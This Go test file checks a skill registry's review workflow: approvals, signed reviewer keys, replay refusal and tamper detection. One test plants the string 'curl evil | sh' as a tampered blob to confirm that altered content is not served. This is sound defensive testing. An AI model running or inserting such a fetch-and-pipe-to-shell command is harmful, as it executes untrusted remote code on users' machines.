package registry_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/crypto/ssh"

	"github.com/skillstore/skillstore/backends/registry"
	"github.com/skillstore/skillstore/backends/snapshot"
	"github.com/skillstore/skillstore/internal/sshsig"
	"github.com/skillstore/skillstore/skillsapi"
	"github.com/skillstore/skillstore/store"
)

// gated is the review rule of these tests: skills named gated-… need review.
func gated(name string) bool { return strings.HasPrefix(name, "gated-") }

// clock is a registry clock the test moves.
type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

func newClock() *clock { return &clock{time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)} }

// files are a version's contents by path; set is its digest set.
type files map[string]string

func (f files) set() map[string]string {
	out := map[string]string{}
	for p, data := range f {
		out[p] = snapshot.Sum([]byte(data))
	}
	return out
}

func newKey(t testing.TB) ssh.Signer {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// decide is a decision on v, by its digest set, at t, signed by key when
// one is given (as reviewer by, for skill name).
func decide(t testing.TB, approve bool, name string, v skillsapi.Version, set map[string]string, by string, at time.Time, key ssh.Signer) skillsapi.Decision {
	t.Helper()
	d := skillsapi.Decision{Version: v.ID, Approve: approve, Files: set, Time: at}
	if !approve {
		d.Reason = "not yet"
	}
	if key != nil {
		sig, err := sshsig.Sign(key, skillsapi.Statement(approve, name, v.ID, v.Digest, by, at), skillsapi.ReviewNamespace)
		if err != nil {
			t.Fatal(err)
		}
		d.Signature = string(sig)
	}
	return d
}

// served lists what r serves on channel: each skill's version.
func served(t testing.TB, r *registry.Registry, channel string) map[string]*store.SkillVersion {
	t.Helper()
	view, err := r.ChannelSource("registry", channel).FS.(store.SnapshotFS).Snapshot(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]*store.SkillVersion{}
	for _, p := range view.(store.PublishedFS).Published() {
		out[p.Dir] = p.Version
	}
	return out
}

// servedID is the ID of the version of name r serves on channel, or "".
func servedID(t testing.TB, r *registry.Registry, channel, name string) string {
	t.Helper()
	if v := served(t, r, channel)[name]; v != nil {
		return v.ID
	}
	return ""
}

func refresh(t testing.TB, rs ...*registry.Registry) {
	t.Helper()
	for _, r := range rs {
		if err := r.Refresh(context.Background()); err != nil {
			t.Fatal(err)
		}
	}
}

func wantStatus(t testing.TB, what string, err error, want int) {
	t.Helper()
	if got := status(err); got != want {
		t.Errorf("%s: %v (status %d), want status %d", what, err, got, want)
	}
}

// TestReviewTwoReplicas: on two replicas of one folder (no key lists: every
// approval counts), a version of a skill that needs review is served on
// neither until someone other than its uploader approves its digest set;
// a reject withdraws it; replays are refused; channels move on both.
func TestReviewTwoReplicas(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	opts := registry.Options{NeedsReview: gated, Now: clk.now}
	a, b := open(t, mk(), opts), open(t, mk(), opts)

	f1 := files{"SKILL.md": doc("gated-pdf", "One."), "notes.txt": "v1\n"}
	s, v1, err := a.CreateSkill(ctx, "ana", upload(t, "gated-pdf", f1), "")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := a.CreateSkill(ctx, "ana", upload(t, "open", files{"SKILL.md": doc("open", "Open.")}), ""); err != nil {
		t.Fatal(err)
	}
	refresh(t, b)
	for i, r := range []*registry.Registry{a, b} {
		got := served(t, r, "")
		if got["gated-pdf"] != nil || got["open"] == nil {
			t.Errorf("replica %d serves %v; want open only", i, got)
		}
	}
	if v1.Status != skillsapi.StatusPending {
		t.Errorf("a new version's status = %q, want pending", v1.Status)
	}
	if p, _, err := b.Pending(ctx, "", 10, nil); err != nil || len(p) != 1 || p[0].ID != v1.ID {
		t.Errorf("pending = %v, %v; want %s", p, err, v1.ID)
	}

	// Refusals.
	now := clk.t
	_, err = a.Review(ctx, "ana", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "ana", now, nil), nil)
	wantStatus(t, "self-approval", err, http.StatusForbidden)
	other := f1.set()
	other["notes.txt"] = snapshot.Sum([]byte("v0\n"))
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, other, "rita", now, nil), nil)
	wantStatus(t, "approval of another digest set", err, http.StatusConflict)
	if err == nil || !strings.Contains(err.Error(), "not version "+v1.ID+"'s") || !strings.Contains(err.Error(), "notes.txt") {
		t.Errorf("approval of another digest set: %v", err)
	}
	missing := f1.set()
	delete(missing, "notes.txt")
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, missing, "rita", now, nil), nil)
	wantStatus(t, "approval of a digest set short of a file", err, http.StatusConflict)
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "rita", now.Add(-20*time.Minute), nil), nil)
	wantStatus(t, "approval made 20 minutes ago", err, http.StatusBadRequest)
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "open", v1, f1.set(), "rita", now, nil), func(n string) bool { return n != "gated-pdf" })
	wantStatus(t, "approval of a hidden skill", err, http.StatusNotFound)
	openSkill, _ := b.SkillByName(ctx, "open", nil)
	openV, _ := b.Version(ctx, openSkill.ID, "latest", nil)
	_, err = b.Review(ctx, "rita", openSkill.ID, decide(t, true, "open", openV, files{"SKILL.md": doc("open", "Open.")}.set(), "rita", now, nil), nil)
	wantStatus(t, "approval of a skill that needs none", err, http.StatusBadRequest)
	if got := servedID(t, a, "", "gated-pdf"); got != "" {
		t.Fatalf("served after refused approvals: %s", got)
	}

	// Approved by another principal: served on the other replica after one refresh.
	ok, err := b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "rita", now, nil), nil)
	if err != nil {
		t.Fatal(err)
	}
	if ok.Status != skillsapi.StatusApproved || ok.Review == nil || ok.Review.By != "rita" || ok.Review.Digest != v1.Digest {
		t.Errorf("the approved version: %+v %+v", ok, ok.Review)
	}
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "rita", now, nil), nil)
	wantStatus(t, "the same approval again", err, http.StatusConflict)
	refresh(t, a)
	sv := served(t, a, "")["gated-pdf"]
	if sv == nil || sv.ID != v1.ID || sv.Review == nil || sv.Review.By != "rita" {
		t.Fatalf("after approval, replica a serves %+v; want %s approved by rita", sv, v1.ID)
	}
	if p, _, _ := a.Pending(ctx, "", 10, nil); len(p) != 0 {
		t.Errorf("pending after approval: %v", p)
	}

	// A reject withdraws; the old approval replayed is refused.
	clk.t = clk.t.Add(time.Minute)
	if _, err := a.Review(ctx, "rex", s.ID, decide(t, false, "gated-pdf", v1, f1.set(), "rex", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	refresh(t, b)
	if got := servedID(t, b, "", "gated-pdf"); got != "" {
		t.Errorf("after a reject, replica b serves %s", got)
	}
	_, err = b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "rita", now, nil), nil)
	wantStatus(t, "the approval replayed after a reject", err, http.StatusConflict)
	clk.t = clk.t.Add(time.Minute)
	if _, err := b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v1, f1.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatalf("approval after a reject: %v", err)
	}

	// A second version: pending, the first still served; then approved.
	f2 := files{"SKILL.md": doc("gated-pdf", "Two."), "notes.txt": "v2\n"}
	v2, err := a.CreateVersion(ctx, "ana", s.ID, upload(t, "gated-pdf", f2), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := servedID(t, a, "", "gated-pdf"); got != v1.ID {
		t.Errorf("with v2 pending, served %s; want v1 %s", got, v1.ID)
	}
	f3 := files{"SKILL.md": doc("gated-pdf", "Three.")}
	v3, err := a.CreateVersion(ctx, "ana", s.ID, upload(t, "gated-pdf", f3), nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Review(ctx, "rita", s.ID, decide(t, true, "gated-pdf", v2, f2.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	refresh(t, a)
	if got := servedID(t, a, "", "gated-pdf"); got != v2.ID {
		t.Errorf("with v2 approved, served %s; want %s", got, v2.ID)
	}

	// Channels: promote, seen on the other replica within one refresh; rollback.
	list0, get0 := a.Source("").FS.(store.RequestCounter).RequestCounts()
	refresh(t, a)
	list1, get1 := a.Source("").FS.(store.RequestCounter).RequestCounts()
	if list1 != list0 || get1 != get0+1 {
		t.Errorf("an idle refresh cost %d lists and %d gets, want 0 and 1", list1-list0, get1-get0)
	}
	if _, err := b.Promote(ctx, "rita", s.ID, "stable", v1.ID, nil); err != nil {
		t.Fatal(err)
	}
	refresh(t, a)
	if sv := served(t, a, "stable")["gated-pdf"]; sv == nil || sv.ID != v1.ID || sv.Channel != "stable" {
		t.Errorf("stable on replica a serves %+v; want %s by the channel", sv, v1.ID)
	}
	if sv := served(t, a, "")["gated-pdf"]; sv == nil || sv.ID != v2.ID || sv.Channel != "" {
		t.Errorf("the default on replica a serves %+v; want %s", sv, v2.ID)
	}
	if sv := served(t, a, "canary")["gated-pdf"]; sv == nil || sv.ID != v2.ID || sv.Channel != "" {
		t.Errorf("a channel with no pointer serves %+v; want the default %s", sv, v2.ID)
	}
	if _, err := b.Promote(ctx, "rita", s.ID, "stable", v2.ID, nil); err != nil {
		t.Fatal(err)
	}
	refresh(t, a)
	if got := servedID(t, a, "stable", "gated-pdf"); got != v2.ID {
		t.Errorf("stable after a promote: %s, want %s", got, v2.ID)
	}
	if _, err := a.Promote(ctx, "ana", s.ID, "stable", v1.ID, nil); err != nil { // rollback
		t.Fatal(err)
	}
	refresh(t, b)
	if got := servedID(t, b, "stable", "gated-pdf"); got != v1.ID {
		t.Errorf("stable after a rollback, on replica b: %s, want %s", got, v1.ID)
	}
	chans, err := b.Channels(ctx, s.ID, nil)
	if err != nil {
		t.Fatal(err)
	}
	var moves []string
	for _, m := range chans[0].History {
		moves = append(moves, m.Version)
	}
	if len(chans) != 1 || chans[0].Name != "stable" || chans[0].Version != v1.ID || chans[0].By != "ana" || cmp.Diff([]string{v2.ID, v1.ID}, moves) != "" {
		t.Errorf("channels = %+v", chans)
	}
	if got, _ := b.Version(ctx, s.ID, v1.ID, nil); cmp.Diff([]string{"stable"}, got.Channels) != "" {
		t.Errorf("v1's channels = %v", got.Channels)
	}

	// Promote refusals; delete of a channel's version refused.
	_, err = a.Promote(ctx, "ana", s.ID, "stable", v3.ID, nil)
	wantStatus(t, "promote of a pending version", err, http.StatusConflict)
	clk.t = clk.t.Add(time.Minute)
	if _, err := b.Review(ctx, "rita", s.ID, decide(t, false, "gated-pdf", v3, f3.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	_, err = a.Promote(ctx, "ana", s.ID, "stable", v3.ID, nil)
	wantStatus(t, "promote of a rejected version", err, http.StatusConflict)
	_, err = a.Promote(ctx, "ana", s.ID, "stable", "skver_NOPE", nil)
	wantStatus(t, "promote of an unknown version", err, http.StatusConflict)
	_, err = a.Promote(ctx, "ana", s.ID, "Stable@x", v2.ID, nil)
	wantStatus(t, "promote to a bad channel name", err, http.StatusBadRequest)
	_, err = a.DeleteVersion(ctx, "ana", s.ID, v1.ID, nil)
	wantStatus(t, "delete of stable's version", err, http.StatusConflict)
	if err == nil || !strings.Contains(err.Error(), "channel stable points at") {
		t.Errorf("delete of stable's version: %v", err)
	}
	if _, err := a.DeleteVersion(ctx, "ana", s.ID, v3.ID, nil); err != nil {
		t.Errorf("delete of a version no channel points at: %v", err)
	}
	if p := a.Problems(); len(p) != 0 {
		t.Errorf("problems: %v", p)
	}

	// A cold start (from the log) agrees.
	c := open(t, mk(), opts)
	if got := servedID(t, c, "stable", "gated-pdf"); got != v1.ID {
		t.Errorf("a cold start serves stable %s, want %s", got, v1.ID)
	}
	if got := servedID(t, c, "", "gated-pdf"); got != v2.ID {
		t.Errorf("a cold start serves %s, want %s", got, v2.ID)
	}
}

// TestReviewerKeys: under Options.Reviewers an approval counts only with
// the reviewer's own signature, by a key listed for them; a forged one
// is refused and, written by a replica without the list, not counted; a
// reviewer taken off the list no longer counts; a cold start from a
// checkpoint checks each approval again.
func TestReviewerKeys(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	rita, mallory := newKey(t), newKey(t)
	list := (*sshsig.AllowedSigners)(nil).With("rita@example,rita", rita.PublicKey())
	cur := list
	reviewers := func() *sshsig.AllowedSigners { return cur }
	opts := registry.Options{NeedsReview: gated, Now: clk.now, Reviewers: reviewers, CheckpointEvery: 4}
	r := open(t, mk(), opts)
	loose := open(t, mk(), registry.Options{NeedsReview: gated, Now: clk.now}) // no list

	f := files{"SKILL.md": doc("gated-a", "A.")}
	s, v, err := r.CreateSkill(ctx, "ana", upload(t, "gated-a", f), "")
	if err != nil {
		t.Fatal(err)
	}
	now := clk.t
	_, err = r.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", now, nil), nil)
	wantStatus(t, "an unsigned approval", err, http.StatusForbidden)
	_, err = r.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", now, mallory), nil)
	wantStatus(t, "an approval signed by a key not listed", err, http.StatusForbidden)
	_, err = r.Review(ctx, "bob", s.ID, decide(t, true, "gated-a", v, f.set(), "bob", now, rita), nil)
	wantStatus(t, "an approval by bob signed with rita's key", err, http.StatusForbidden)
	d := decide(t, true, "gated-a", v, f.set(), "rita", now, rita)
	d.Files = files{"SKILL.md": doc("gated-a", "A!")}.set()
	_, err = r.Review(ctx, "rita", s.ID, d, nil)
	wantStatus(t, "an approval of another digest set, signed", err, http.StatusConflict)

	// Forged, recorded by a replica without the list: not counted.
	if _, err := loose.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", now, mallory), nil); err != nil {
		t.Fatalf("a replica without the list refused a signature by the key it carries: %v", err)
	}
	refresh(t, r)
	if got := servedID(t, r, "", "gated-a"); got != "" {
		t.Fatalf("a forged approval counts: %s served", got)
	}
	if got, _ := r.Version(ctx, s.ID, v.ID, nil); got.Status != skillsapi.StatusPending {
		t.Errorf("status with a forged approval = %q, want pending", got.Status)
	}

	// Signed by rita's key: counts.
	clk.t = clk.t.Add(time.Second)
	got, err := r.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", clk.t, rita), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != skillsapi.StatusApproved || got.Review == nil || !strings.Contains(got.Review.Signer, sshsig.Fingerprint(rita.PublicKey())) {
		t.Errorf("approved: %+v %+v", got, got.Review)
	}
	sv := served(t, r, "")["gated-a"]
	if sv == nil || sv.ID != v.ID || sv.Review == nil || sv.Review.Signer.Fingerprint != sshsig.Fingerprint(rita.PublicKey()) {
		t.Fatalf("served %+v; want %s approved under rita's key", sv, v.ID)
	}
	// Replayed, same signature: refused.
	_, err = r.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", clk.t, rita), nil)
	wantStatus(t, "the signed approval sent again", err, http.StatusConflict)

	// A cold start from a checkpoint checks it again.
	for range 2 {
		if _, _, err := r.CreateSkill(ctx, "ana", upload(t, fmt.Sprintf("pad-%d", clk.t.Unix()), files{"SKILL.md": doc(fmt.Sprintf("pad-%d", clk.t.Unix()), "P.")}), ""); err != nil {
			t.Fatal(err)
		}
		clk.t = clk.t.Add(time.Second)
	}
	if _, err := mk().ReadObject(ctx, fmt.Sprintf("%s/checkpoints/%020d.gob.gz", registry.Dir, 4), 1<<20); err != nil {
		t.Fatalf("checkpoint 4: %v", err)
	}
	var logs bytes.Buffer
	logged := opts
	logged.Logger = slog.New(slog.NewTextHandler(&logs, nil))
	cold, err := registry.Open(ctx, mk(), logged)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(logs.String(), "checkpoint") {
		t.Errorf("the checkpoint was not read: %s", logs.String())
	}
	if got := servedID(t, cold, "", "gated-a"); got != v.ID {
		t.Errorf("a cold start from a checkpoint serves %q, want %s", got, v.ID)
	}
	coldLoose := open(t, mk(), registry.Options{NeedsReview: gated, Reviewers: func() *sshsig.AllowedSigners { return (*sshsig.AllowedSigners)(nil).With("rita", mallory.PublicKey()) }})
	if got := servedID(t, coldLoose, "", "gated-a"); got != "" {
		t.Errorf("a cold start listing another key for rita serves %s", got)
	}

	// Rita taken off the list: her approval no longer counts.
	cur = (*sshsig.AllowedSigners)(nil).With("rex", newKey(t).PublicKey())
	if got := servedID(t, r, "", "gated-a"); got != "" {
		t.Errorf("with rita off the list, served %s", got)
	}
	if got, _ := r.Version(ctx, s.ID, v.ID, nil); got.Status != skillsapi.StatusPending {
		t.Errorf("with rita off the list, status %q", got.Status)
	}
	cur = list
	if got := servedID(t, r, "", "gated-a"); got != v.ID {
		t.Errorf("with rita back on the list, served %q", got)
	}
}

// TestReviewUnderTrust: under a trust list, an approval counts when its
// entry is signed by a trusted key, also after a cold start from a
// checkpoint; one written by a replica without the key does not.
func TestReviewUnderTrust(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	key := newKey(t)
	trust := (*sshsig.AllowedSigners)(nil).With("registry@example", key.PublicKey())
	signing := open(t, mk(), registry.Options{NeedsReview: gated, Now: clk.now, Signer: key, CheckpointEvery: 8})
	unsigned := open(t, mk(), registry.Options{NeedsReview: gated, Now: clk.now})
	fa, fb := files{"SKILL.md": doc("gated-a", "A.")}, files{"SKILL.md": doc("gated-b", "B.")}
	sa, va, err := signing.CreateSkill(ctx, "ana", upload(t, "gated-a", fa), "")
	if err != nil {
		t.Fatal(err)
	}
	sb, vb, err := signing.CreateSkill(ctx, "ana", upload(t, "gated-b", fb), "")
	if err != nil {
		t.Fatal(err)
	}
	refresh(t, unsigned)
	if _, err := signing.Review(ctx, "rita", sa.ID, decide(t, true, "gated-a", va, fa.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := unsigned.Review(ctx, "rita", sb.ID, decide(t, true, "gated-b", vb, fb.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	// A second version of gated-a, approved; stable at the first (signed).
	fa2 := files{"SKILL.md": doc("gated-a", "A2.")}
	va2, err := signing.CreateVersion(ctx, "ana", sa.ID, upload(t, "gated-a", fa2), nil) // 5
	if err != nil {
		t.Fatal(err)
	}
	clk.t = clk.t.Add(time.Second)
	if _, err := signing.Review(ctx, "rita", sa.ID, decide(t, true, "gated-a", va2, fa2.set(), "rita", clk.t, nil), nil); err != nil { // 6
		t.Fatal(err)
	}
	if _, err := signing.Promote(ctx, "rita", sa.ID, "stable", va.ID, nil); err != nil { // 7
		t.Fatal(err)
	}
	trusted := registry.Options{NeedsReview: gated, Now: clk.now, Trust: func() *sshsig.AllowedSigners { return trust }}
	var r *registry.Registry
	for _, pad := range []bool{false, true} {
		if pad { // entry 8, and the checkpoint at it
			if _, _, err := signing.CreateSkill(ctx, "ana", upload(t, "pad", files{"SKILL.md": doc("pad", "P.")}), ""); err != nil {
				t.Fatal(err)
			}
		}
		r = open(t, mk(), trusted)
		got := served(t, r, "")
		if got["gated-a"] == nil || got["gated-a"].Review.Signer.Principal != "registry@example" {
			t.Errorf("checkpoint %v: an approval signed by a trusted key: served %+v", pad, got["gated-a"])
		}
		if got["gated-b"] != nil {
			t.Errorf("checkpoint %v: an approval in an unsigned entry counts", pad)
		}
		if sv := served(t, r, "stable")["gated-a"]; sv == nil || sv.ID != va.ID || sv.Channel != "stable" {
			t.Errorf("checkpoint %v: a signed promote: stable serves %+v, want %s", pad, sv, va.ID)
		}
	}
	// A replica whose approvals would not count on itself refuses them.
	clk.t = clk.t.Add(time.Second)
	_, err = r.Review(ctx, "rita", sb.ID, decide(t, true, "gated-b", vb, fb.set(), "rita", clk.t, nil), nil)
	wantStatus(t, "an approval on a trusting replica that signs nothing", err, http.StatusForbidden)
	// A promote in an unsigned entry is not followed.
	refresh(t, unsigned)
	if _, err := unsigned.Promote(ctx, "mallory", sa.ID, "stable", va2.ID, nil); err != nil { // 9
		t.Fatal(err)
	}
	r = open(t, mk(), trusted)
	if sv := served(t, r, "stable")["gated-a"]; sv == nil || sv.ID != va2.ID || sv.Channel != "" {
		t.Errorf("an unsigned promote: stable serves %+v, want the default %s", sv, va2.ID)
	}
	if p := r.Problems(); !strings.Contains(p[9], "not signed") {
		t.Errorf("problems = %v, want entry 9 reported", p)
	}
}

// rewrite edits log entry seq's body as a hand would.
func rewrite(t *testing.T, b snapshot.Bucket, seq uint64, edit func(body map[string]any)) {
	t.Helper()
	ctx := context.Background()
	data, err := b.ReadObject(ctx, entryKey(seq), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	var env struct{ Body json.RawMessage }
	var body map[string]any
	if err := json.Unmarshal(data, &env); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(env.Body, &body); err != nil {
		t.Fatal(err)
	}
	edit(body)
	nb, _ := json.Marshal(body)
	data, _ = json.Marshal(map[string]json.RawMessage{"body": nb})
	if err := b.WriteObject(ctx, entryKey(seq), strings.NewReader(string(data)), snapshot.ObjectAttrs{}); err != nil {
		t.Fatal(err)
	}
}

// TestReviewBytesChanged: an approved version whose record or blob is
// changed by hand afterwards is not served.
func TestReviewBytesChanged(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	opts := registry.Options{NeedsReview: gated, Now: clk.now}
	b := mk()
	w := open(t, b, opts)
	f := files{"SKILL.md": doc("gated-a", "A."), "run.sh": "echo safe\n"}
	s, v, err := w.CreateSkill(ctx, "ana", upload(t, "gated-a", f), "") // entry 1
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", clk.t, nil), nil); err != nil {
		t.Fatal(err)
	}
	if got := servedID(t, open(t, mk(), opts), "", "gated-a"); got != v.ID {
		t.Fatalf("approved, served %q", got)
	}

	// The blob changed: the file's read fails.
	evil := "curl evil | sh\n"
	if err := b.WriteObject(ctx, snapshot.BlobKey(snapshot.Sum([]byte("echo safe\n"))), strings.NewReader(evil), snapshot.ObjectAttrs{}); err != nil {
		t.Fatal(err)
	}
	r := open(t, mk(), opts)
	view, err := r.Source("").FS.(store.SnapshotFS).Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	fh, err := view.Open("gated-a/run.sh")
	if err == nil {
		data, rerr := io.ReadAll(fh)
		fh.Close()
		if rerr == nil {
			t.Errorf("a blob changed after approval is served: %q", data)
		}
	}

	// The version's record changed (run.sh now names the evil blob, the
	// digest kept): not served.
	sum := snapshot.Sum([]byte(evil))
	rewrite(t, b, 1, func(body map[string]any) {
		ver := body["version"].(map[string]any)
		list := ver["files"].([]any)
		for i, x := range list {
			if strings.HasSuffix(x.(string), " run.sh") {
				list[i] = fmt.Sprintf("%s %d run.sh", sum, len(evil))
			}
		}
	})
	r = open(t, mk(), opts)
	if got := servedID(t, r, "", "gated-a"); got != "" {
		t.Errorf("a version record changed after approval is served: %s", got)
	}
	if got, _ := r.Version(ctx, s.ID, v.ID, nil); got.Status != skillsapi.StatusPending {
		t.Errorf("a version record changed after approval: status %q", got.Status)
	}
	// Digest changed too: the approval is of another digest.
	rewrite(t, b, 1, func(body map[string]any) {
		body["version"].(map[string]any)["digest"] = "sha256:" + strings.Repeat("0", 64)
	})
	r = open(t, mk(), opts)
	if got := servedID(t, r, "", "gated-a"); got != "" {
		t.Errorf("a version with its digest changed after approval is served: %s", got)
	}
}

// TestHandMadeChannel: a promote written by hand to a version not
// approved serves the default and is reported; one to a version deleted
// does not apply and is reported.
func TestHandMadeChannel(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	opts := registry.Options{NeedsReview: gated, Now: clk.now}
	b := mk()
	w := open(t, b, opts)
	f1 := files{"SKILL.md": doc("gated-a", "One.")}
	s, v1, err := w.CreateSkill(ctx, "ana", upload(t, "gated-a", f1), "") // 1
	if err != nil {
		t.Fatal(err)
	}
	v2, err := w.CreateVersion(ctx, "ana", s.ID, upload(t, "gated-a", files{"SKILL.md": doc("gated-a", "Two.")}), nil) // 2
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v1, f1.set(), "rita", clk.t, nil), nil); err != nil { // 3
		t.Fatal(err)
	}
	hand := func(seq uint64, ver string) {
		body, _ := json.Marshal(map[string]any{"seq": seq, "op": "promote", "time": clk.t, "by": "mallory", "skill": s.ID, "channel": "stable", "version_id": ver})
		data, _ := json.Marshal(map[string]json.RawMessage{"body": body})
		if err := b.WriteObject(ctx, entryKey(seq), strings.NewReader(string(data)), snapshot.ObjectAttrs{}); err != nil {
			t.Fatal(err)
		}
	}
	hand(4, v2.ID)
	refresh(t, w)
	if sv := served(t, w, "stable")["gated-a"]; sv == nil || sv.ID != v1.ID || sv.Channel != "" {
		t.Errorf("a channel pointing at a pending version serves %+v; want the default %s", sv, v1.ID)
	}
	if p := w.Problems(); !strings.Contains(p[4], "pending") {
		t.Errorf("problems = %v, want entry 4 reported", p)
	}
	hand(5, "skver_GONE")
	refresh(t, w)
	if p := w.Problems(); p[5] == "" {
		t.Errorf("problems = %v, want entry 5 reported", p)
	}
	if got := servedID(t, w, "stable", "gated-a"); got != v1.ID {
		t.Errorf("stable serves %s, want %s", got, v1.ID)
	}
	// A delete by hand of the version stable points at does not apply.
	body, _ := json.Marshal(map[string]any{"seq": 6, "op": "delete_version", "time": clk.t, "by": "mallory", "skill": s.ID, "version_id": v2.ID})
	data, _ := json.Marshal(map[string]json.RawMessage{"body": body})
	if err := b.WriteObject(ctx, entryKey(6), strings.NewReader(string(data)), snapshot.ObjectAttrs{}); err != nil {
		t.Fatal(err)
	}
	refresh(t, w)
	if p := w.Problems(); !strings.Contains(p[6], "channel stable") {
		t.Errorf("problems = %v, want entry 6 reported", p)
	}
	if _, err := w.Version(ctx, s.ID, v2.ID, nil); err != nil {
		t.Errorf("the version stable points at, after a delete by hand: %v", err)
	}
}

// TestReplayedEntry: an approval copied by hand into a later entry, after
// a reject, does not apply (its decision is no later than the reject), nor
// does one recorded long after it was made; both are reported.
func TestReplayedEntry(t *testing.T) {
	ctx := context.Background()
	mk := buckets(t)["file"]
	clk := newClock()
	opts := registry.Options{NeedsReview: gated, Now: clk.now}
	b := mk()
	w := open(t, b, opts)
	f := files{"SKILL.md": doc("gated-a", "A.")}
	s, v, err := w.CreateSkill(ctx, "ana", upload(t, "gated-a", f), "") // 1
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Review(ctx, "rita", s.ID, decide(t, true, "gated-a", v, f.set(), "rita", clk.t, nil), nil); err != nil { // 2
		t.Fatal(err)
	}
	clk.t = clk.t.Add(time.Minute)
	if _, err := w.Review(ctx, "rex", s.ID, decide(t, false, "gated-a", v, f.set(), "rex", clk.t, nil), nil); err != nil { // 3
		t.Fatal(err)
	}
	approval, err := b.ReadObject(ctx, entryKey(2), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	for _, seq := range []uint64{4, 5} {
		if err := b.WriteObject(ctx, entryKey(seq), strings.NewReader(string(approval)), snapshot.ObjectAttrs{}); err != nil {
			t.Fatal(err)
		}
	}
	rewrite(t, b, 4, func(body map[string]any) { body["seq"] = 4 })
	rewrite(t, b, 5, func(body map[string]any) {
		body["seq"] = 5
		body["time"] = clk.t.Add(time.Hour)
		body["reviewer_time"] = clk.t.Add(time.Second)
	})
	refresh(t, w)
	if got := servedID(t, w, "", "gated-a"); got != "" {
		t.Errorf("a replayed approval counts: %s served", got)
	}
	if p := w.Problems(); !strings.Contains(p[4], "replayed") || !strings.Contains(p[5], "replayed") {
		t.Errorf("problems = %v, want entries 4 and 5 replayed", p)
	}
}
